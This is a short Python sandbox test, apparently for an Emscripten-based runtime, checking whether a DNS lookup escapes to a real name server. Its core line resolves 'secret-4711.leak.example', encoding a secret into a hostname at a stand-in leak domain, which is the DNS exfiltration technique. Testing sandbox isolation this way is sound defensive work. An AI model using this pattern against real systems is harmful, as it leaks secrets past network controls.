# A secret in the name of a host, by Python.
# tries: resolve a name with the standard library
# must: ask no name server: Emscripten makes up an address
import socket

try:
    address = socket.getaddrinfo("secret-4711.leak.example", 80)[0][4][0]
except OSError as error:
    address = str(error)
# Made-up addresses come from 172.29.0.0/16.
made_up = address.startswith("172.29.") or not address[0].isdigit()
print("blocked:" if made_up else "escaped:", address)
